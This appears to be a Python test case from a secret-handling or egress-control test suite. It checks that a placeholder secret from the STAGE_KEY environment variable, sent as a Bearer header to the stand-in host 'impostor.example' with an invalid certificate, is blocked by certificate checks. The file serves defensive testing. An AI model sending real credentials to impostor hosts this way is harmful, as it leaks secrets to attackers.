# Sends its placeholder to a host that the secret is for, and that shows a certificate of nobody.
#
# promise: secret.unseen
# group: egress
# expects: completed
# stopped-by: host-certificates
# network: named

import os

from attack import ask, judge, status

held = os.environ["STAGE_KEY"]
judge(
    {
        "in a header": status(ask("impostor.example", "/", f"authorization: Bearer {held}")),
        "with nothing": status(ask("impostor.example", "/")),
        "again": status(ask("impostor.example", "/again", f"authorization: Bearer {held}")),
    }
)
